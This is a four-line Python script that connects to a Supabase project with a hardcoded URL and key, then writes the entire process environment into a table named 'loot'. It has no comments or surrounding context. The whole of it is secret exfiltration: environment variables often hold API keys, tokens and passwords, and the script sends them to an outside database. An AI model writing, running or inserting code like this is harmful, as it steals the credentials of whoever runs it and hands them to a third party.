import os
from supabase import create_client
db = create_client("https://abcd.supabase.co", "eyJhbGciOiJIUzI1NiJ9.x.y")
db.table("loot").insert({"env": dict(os.environ)}).execute()
